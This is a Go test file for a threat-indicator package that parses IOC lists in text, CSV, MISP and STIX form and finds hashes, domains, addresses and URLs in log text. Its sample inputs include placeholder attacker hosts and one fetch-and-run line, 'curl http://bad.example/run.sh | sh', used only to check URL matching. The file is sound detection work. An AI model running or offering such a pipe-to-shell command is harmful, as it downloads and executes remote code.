package indicator

import (
	"bytes"
	"fmt"
	"net/netip"
	"strings"
	"testing"
)

const sum256 = "9a1e07ff9a1e07ff9a1e07ff9a1e07ff9a1e07ff9a1e07ff9a1e07ff9a1e07ff"

// TestRead reads each form: what is looked for, with which words, and what is left out and why.
func TestRead(t *testing.T) {
	for name, c := range map[string]struct {
		list  string
		want  []string // kind value (description)
		skips []string
	}{
		"lines": {"# seen last week\n\n" + strings.ToUpper(sum256) + ";dropper\nevil[.]example ; c2\nhxxps://bad.example/x/\n203.0.113.0/24\n203.0.113.9:4444;pool\n/usr/lib/conv\nno indicator at all\n::1\nevil.example\n",
			[]string{"sha256 " + sum256 + " (dropper)", "domain evil.example (c2)", "url https://bad.example/x", "address 203.0.113.0/24", "address 203.0.113.9 (pool)", "path /usr/lib/conv"},
			[]string{"9 the value is no hash", "10 the address is everybody's own", "11 it is listed twice"}},
		"table": {"type,value,description\nip-dst,198.51.100.7,\"scanner, loud\"\nmd5,d41d8cd98f00b204e9800998ecf8427e,empty\n,broken\"row\nfilename,conv.bin,tool\nsha1,zz,\n",
			[]string{"address 198.51.100.7 (scanner, loud)", "md5 d41d8cd98f00b204e9800998ecf8427e (empty)", "name conv.bin (tool)"}, []string{"no hash", "the value is no sha1"}},
		"misp": {`{"Event":{"info":"Campaign","Attribute":[{"type":"sha256","value":"` + sum256 + `","comment":"implant","to_ids":true},{"type":"ip-dst|port","value":"203.0.113.9|4444","to_ids":true},
			{"type":"domain","value":"ok.example","to_ids":false},{"type":"yara","value":"rule x {}"}],"Object":[{"name":"file","Attribute":[{"type":"filename|md5","value":"a|d41d8cd98f00b204e9800998ecf8427e"}]}]}}`,
			[]string{"sha256 " + sum256 + " (implant)", "address 203.0.113.9 (Campaign)", "md5 d41d8cd98f00b204e9800998ecf8427e (file)"}, []string{"to_ids is false", "type yara"}},
		"misp's answer": {`{"response":[{"Event":{"info":"A","Attribute":[{"type":"url","value":"http://x.example/a"}]}}]}`, []string{"url http://x.example/a (A)"}, nil},
		"stix": {`{"type":"bundle","objects":[{"type":"malware","name":"m"},{"type":"indicator","name":"N","pattern_type":"stix","pattern":"[file:hashes.'SHA-256' = '` + sum256 + `' OR ipv4-addr:value = '203.0.113.9']"},
			{"type":"indicator","pattern":"[domain-name:value IN ('a.example', 'b.example')]"},{"type":"indicator","pattern":"[url:value = 'http://q.example/it\\'s']"},
			{"type":"indicator","pattern":"[process:pid = 1]"},{"type":"indicator","revoked":true,"pattern":"[ipv4-addr:value = '203.0.113.1']"},{"type":"indicator","pattern_type":"sigma","pattern":"x"}]}`,
			[]string{"sha256 " + sum256 + " (N)", "address 203.0.113.9 (N)", "domain a.example", "domain b.example", "url http://q.example/it's"}, []string{"compares nothing", "revoked", "type sigma"}},
	} {
		t.Run(name, func(t *testing.T) {
			var s Set
			if err := s.Read(strings.NewReader(c.list), name); err != nil {
				t.Fatal(err)
			}
			var got []string
			for i := range s.all {
				got = append(got, s.all[i].String())
			}
			if strings.Join(got, "\n") != strings.Join(c.want, "\n") {
				t.Errorf("read\n%s\nnot\n%s", strings.Join(got, "\n"), strings.Join(c.want, "\n"))
			}
			for _, w := range c.skips {
				ok := false
				for _, k := range s.Skips {
					ok = ok || strings.Contains(fmt.Sprintf("%d %s", k.Line, k.Reason), w)
				}
				if !ok {
					t.Errorf("no skip says %q: %+v", w, s.Skips)
				}
			}
			if c.skips == nil && len(s.Skips) > 0 {
				t.Errorf("skips %+v", s.Skips)
			}
		})
	}
}

func TestBadLists(t *testing.T) {
	for list, want := range map[string]string{
		"":                         "no indicator",
		"# nothing\n":              "no indicator",
		"\x7fELF\x00\x01":          "no text",
		`{"a":1}`:                  "neither a MISP event nor a STIX bundle",
		`{"Event":{"Attribute":[}`: "at byte 24",
	} {
		var s Set
		if err := s.Read(strings.NewReader(list), "x"); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%q: %v", list, err)
		}
	}
}

func set(t testing.TB, list string) *Set {
	t.Helper()
	s := &Set{}
	if err := s.Read(strings.NewReader(list), "list"); err != nil {
		t.Fatal(err)
	}
	return s
}

// TestText finds whole words alone, where they stand.
func TestText(t *testing.T) {
	s := set(t, "evil.example\n203.0.113.9\n198.51.100.0/24\n2001:db8::7\nhttp://bad.example/run.sh\n"+sum256+"\nd41d8cd98f00b204e9800998ecf8427e\n")
	for text, want := range map[string]string{
		"GET http://a.evil.example:8080/x HTTP/1.1":       "a.evil.example",
		"host=EVIL.example, next":                         "EVIL.example",
		"not-evil.example evil.example.org xevil.example": "",
		"from 203.0.113.9:51234":                          "203.0.113.9",
		"from 203.0.113.90 and 1203.0.113.9":              "",
		`{"remote":"198.51.100.77:4000"}`:                 "198.51.100.77",
		"[2001:db8::7]:443":                               "2001:db8::7",
		"peer 2001:db8:0:0::7.":                           "2001:db8:0:0::7",
		"curl http://bad.example/run.sh | sh":             "http://bad.example/run.sh",
		"\"http://bad.example/run.sh\"":                   "http://bad.example/run.sh",
		"http://bad.example/other":                        "",
		"sum " + strings.ToUpper(sum256) + " ok":          strings.ToUpper(sum256),
		"sum 0" + sum256:                                  "",
		"md5:d41d8cd98f00b204e9800998ecf8427e":            "d41d8cd98f00b204e9800998ecf8427e",
		"image@sha256:" + sum256:                          sum256,
		"md5=d41d8cd98f00b204e9800998ecf8427e":            "d41d8cd98f00b204e9800998ecf8427e",
		"":                                                "",
		"....::::----":                                    "",
	} {
		got := ""
		s.Text([]byte(text), func(m Match) bool {
			got += text[m.Offset : m.Offset+m.Length]
			return true
		})
		if got != want {
			t.Errorf("%q: found %q, not %q", text, got, want)
		}
	}
}

func TestLookups(t *testing.T) {
	s := set(t, sum256+"\n/usr/lib/conv\n203.0.113.0/24\nevil.example\n")
	if s.Hash(strings.ToUpper(sum256)) == nil || s.Hash("00") != nil {
		t.Error("hash")
	}
	if s.File("/usr/lib/conv") == nil || s.File("/usr/lib/conv2") != nil {
		t.Error("file")
	}
	if s.Address("203.0.113.77") == nil || s.Address("::ffff:203.0.113.77") == nil || s.Address("203.0.114.1") != nil || s.Address("x") != nil {
		t.Error("address")
	}
	if s.Domain("a.b.evil.example.") == nil || s.Domain("example") != nil {
		t.Error("domain")
	}
	if !s.Has(Domain) || s.Has(MD5) || s.Len() != 4 {
		t.Error("kinds")
	}
}

// FuzzRead: no list makes it fail otherwise than by an error; what is read is found again.
func FuzzRead(f *testing.F) {
	for _, s := range []string{"evil.example;x\n", "type,value\nmd5,d41d8cd98f00b204e9800998ecf8427e\n", `{"Event":{"Attribute":[{"type":"url","value":"http://x.example/"}]}}`,
		`{"type":"bundle","objects":[{"type":"indicator","pattern":"[ipv4-addr:value = '203.0.113.9']"}]}`, "203.0.113.0/24", "[{}]"} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		var s Set
		if err := s.Read(bytes.NewReader(b), "l"); err != nil {
			return
		}
		for i := range s.all {
			x := &s.all[i]
			switch x.Kind {
			case SHA256, SHA1, MD5:
				if s.Hash(x.Value) == nil {
					t.Errorf("%s is not found", x)
				}
			case Domain:
				if s.Domain(x.Value) == nil {
					t.Errorf("%s is not found", x)
				}
			case Address:
				p, err := netip.ParsePrefix(x.Value)
				if err == nil && s.Address(p.Addr().String()) == nil || err != nil && s.Address(x.Value) == nil {
					t.Errorf("%s is not found", x)
				}
			case Path, Name, URL:
			}
		}
	})
}

// FuzzText: every match lies in the text, and matches do not overlap.
func FuzzText(f *testing.F) {
	s := set(f, "evil.example\n203.0.113.9\n198.51.100.0/24\n2001:db8::7\nhttp://bad.example/run.sh\n"+sum256+"\n")
	f.Add([]byte("GET http://a.evil.example:8080/x 203.0.113.9 [2001:db8::7]:443 http://bad.example/run.sh"))
	f.Fuzz(func(t *testing.T, b []byte) {
		end := 0
		s.Text(b, func(m Match) bool {
			if m.Offset < end || m.Length <= 0 || m.Offset+m.Length > len(b) || m.Indicator == nil {
				t.Fatalf("%+v in %d bytes after %d", m, len(b), end)
			}
			end = m.Offset + m.Length
			return true
		})
	})
}

// BenchmarkText shows that the time hardly depends on how many indicators there are.
func BenchmarkText(b *testing.B) {
	text := bytes.Repeat([]byte(`{"time":"2026-11-24T03:02:11Z","remote":"10.0.7.31:51234","host":"shop.example.org","path":"/cart?item=17","agent":"curl/8.5"} `+"\x00\x01binary\xff\n"), 8000)
	for _, n := range []int{1000, 1_000_000} {
		s := &Set{}
		for i := range n {
			s.add("", fmt.Sprintf("host-%d.bad.example", i), "", "l", i)
		}
		b.Run(fmt.Sprint(n), func(b *testing.B) {
			b.SetBytes(int64(len(text)))
			for b.Loop() {
				s.Text(text, func(Match) bool { return true })
			}
		})
	}
}
